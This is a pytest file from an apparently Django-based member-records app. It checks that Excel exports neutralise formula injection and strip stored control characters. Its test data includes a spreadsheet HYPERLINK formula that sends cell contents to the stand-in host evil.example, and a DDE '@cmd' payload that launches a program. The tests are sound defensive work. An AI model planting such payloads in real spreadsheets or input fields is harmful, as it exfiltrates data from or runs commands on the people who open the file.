"""Every Excel export is written through apps.core.excel.ExportWorkbook: text that a spreadsheet would run as a
formula stays text — unchanged, in a text cell (never a formula) with the quotePrefix style — and characters already
stored that XML cannot hold never make an export fail."""

import ast
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone
from openpyxl import load_workbook

from apps.audit.models import AuditEvent
from apps.core.excel import ExportWorkbook, is_formula_like, safe_cell
from apps.core.models import Job
from apps.members.models import Member
from apps.orgs.models import Organization

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
STORED = "张\x07三\u202e\x1b"  # as if written before the input guard existed


def test_safe_cell():
    for text in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "-张三"]:
        assert safe_cell(text) == text and is_formula_like(text)  # the text is kept as it is
    assert not is_formula_like("张三") and not is_formula_like(-3)
    assert safe_cell("a\x00b\x07c\x7f\x85d\u202e\u2066e\ud800") == "abcde"
    assert safe_cell("甲\t乙\n丙") == "甲\t乙\n丙"
    for value in [-5, -1.5, 0, Decimal("-2.5"), date(2026, 1, 1), True, None]:
        assert safe_cell(value) == value  # numbers (negative ones too), dates and booleans are not text
    assert len(safe_cell("x" * 40000)) == 32767


def _cells(data: bytes, sheet=None):
    wb = load_workbook(io.BytesIO(data))
    ws = wb[sheet] if sheet else wb.active
    return [cell for row in ws.iter_rows() for cell in row]


def assert_text_kept(cells, *texts):
    """No cell is a formula; each formula-like text is there unchanged, as text with the quotePrefix style."""
    assert not any(c.data_type == "f" for c in cells)
    for text in texts:
        matching = [c for c in cells if c.value == text]
        assert matching, (text, [c.value for c in cells])
        assert all(c.data_type == "s" and c.quotePrefix for c in matching), text
    assert not any(isinstance(c.value, str) and c.value.startswith("'") for c in cells)  # no apostrophe added


@pytest.mark.parametrize("write_only", [True, False])
def test_export_workbook_writes_no_formula(write_only):
    wb = ExportWorkbook(write_only=write_only)
    ws = wb.create_sheet("表")
    ws.append([FORMULA, STORED, -3, "-3", "-张三", "普通"])
    if not write_only:
        ws.cell(row=2, column=1, value="=1+1")
    buffer = io.BytesIO()
    wb.save(buffer)
    cells = _cells(buffer.getvalue(), "表")
    assert [c.data_type for c in cells[:6]] == ["s", "s", "n", "s", "s", "s"]
    assert [c.value for c in cells[:6]] == [FORMULA, "张三", -3, "-3", "-张三", "普通"]
    assert [c.quotePrefix for c in cells[:6]] == [True, False, False, True, True, False]
    assert_text_kept(cells, FORMULA, "-3", "-张三", *([] if write_only else ["=1+1"]))


@pytest.mark.django_db
def test_member_export_with_formula_and_control_characters(tree, client):
    # Written straight to the table: the rows the guard can no longer stop.
    Member.objects.filter(pk=tree.member_a.pk).update(name=FORMULA, flow_place=STORED)
    Organization.objects.filter(pk=tree.branch_a.pk).update(name="@cmd|' /C calc'!A0\x08")
    client.force_login(tree.users["district_admin"])
    response = client.get("/members/export/")
    job = Job.objects.get(pk=response.url.split("/")[2])
    assert job.status == "succeeded", job.result
    data = b"".join(client.get(f"/jobs/{job.pk}/download/").streaming_content)
    cells = _cells(data)
    assert "张三" in [c.value for c in cells]
    assert_text_kept(cells, FORMULA, "@cmd|' /C calc'!A0")


@pytest.mark.django_db
def test_audit_export_with_stored_control_characters(tree, client):
    AuditEvent.objects.create(actor_name="-x\x07", action="update", object_type="members.member", object_id="1",
                              object_repr=FORMULA + "\x1b", note=STORED, before={"name": "=1+1\x07"}, after={"name": STORED})
    client.force_login(tree.users["auditor"])
    response = client.get("/audit/export/")
    job = Job.objects.get(pk=response.url.split("/")[2])
    assert job.status == "succeeded", job.result
    cells = _cells(b"".join(client.get(f"/jobs/{job.pk}/download/").streaming_content))
    assert "张三" in [c.value for c in cells]
    assert_text_kept(cells, FORMULA, "-x")


@pytest.mark.django_db
def test_compliance_export_job_with_stored_control_characters(tree, client):
    from apps.records.defaults import ensure_default_types

    ensure_default_types()
    Organization.objects.filter(pk=tree.branch_b.pk).update(name="=1+2\x07\u202e")
    client.force_login(tree.users["district_admin"])
    client.get(f"/records/compliance/export.xlsx?org={tree.district.pk}&period={timezone.localdate():%Y-%m}")
    job = Job.objects.get(kind="compliance_export")
    assert job.status == "succeeded", job.result
    data = b"".join(client.get(f"/jobs/{job.pk}/download/").streaming_content)
    assert_text_kept(_cells(data, "未完成的组织"), "=1+2")


@pytest.mark.django_db
def test_import_error_report_neutralizes_echoed_cells(tree, client):
    job = Job.objects.create(kind="member_import", title="导入", created_by=tree.users["district_admin"],
                             status=Job.Status.REJECTED, result={"errors": [{"row": 3, "column": "姓名",
                                                                              "reason": "“=1+1\x07”不是有效的姓名"}]})
    client.force_login(tree.users["district_admin"])
    response = client.get(f"/jobs/{job.pk}/errors.xlsx")
    assert response.status_code == 200
    assert "“=1+1”不是有效的姓名" in [c.value for c in _cells(b"".join(response.streaming_content))]


def test_every_workbook_is_written_through_export_workbook():
    """No module but apps/core/excel.py creates an openpyxl Workbook, so no export can bypass `safe_cell`.
    Allowed: apps/demo/bench_members.py writes a synthetic import file for the benchmark (generated values, no stored text)."""
    allowed = {Path("apps/core/excel.py"), Path("apps/demo/bench_members.py")}
    offenders = []
    root = Path(settings.BASE_DIR)
    for path in sorted((root / "apps").rglob("*.py")):
        relative = path.relative_to(root)
        if relative in allowed or "tests" in relative.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("openpyxl"):
                if any(alias.name == "Workbook" for alias in node.names):
                    offenders.append(f"{relative}:{node.lineno}")
            elif isinstance(node, ast.Attribute) and node.attr == "Workbook":
                offenders.append(f"{relative}:{node.lineno}")
    assert offenders == [], "write exports with apps.core.excel.ExportWorkbook: " + ", ".join(offenders)


@pytest.mark.django_db
def test_a_member_named_like_a_formula_survives_export_and_reimport(tree, client):
    Member.objects.filter(pk=tree.member_a.pk).update(name="=1+1")
    Member.objects.filter(pk=tree.member_b.pk).update(name="-张三")
    client.force_login(tree.users["district_admin"])
    response = client.get("/members/export/?unmask=1")  # full numbers: the only export that can be imported
    job = Job.objects.get(pk=response.url.split("/")[2])
    assert job.status == "succeeded", job.result
    data = b"".join(client.get(f"/jobs/{job.pk}/download/").streaming_content)
    assert_text_kept(_cells(data), "=1+1", "-张三")
    Member.objects.filter(pk__in=[tree.member_a.pk, tree.member_b.pk]).update(name="改过")
    upload = io.BytesIO(data)
    upload.name = "党员名册.xlsx"
    response = client.post("/members/import/", {"file": upload})
    job = Job.objects.get(pk=response.url.split("/")[2])
    assert job.status == "succeeded", job.result
    assert Member.objects.get(pk=tree.member_a.pk).name == "=1+1"
    assert Member.objects.get(pk=tree.member_b.pk).name == "-张三"
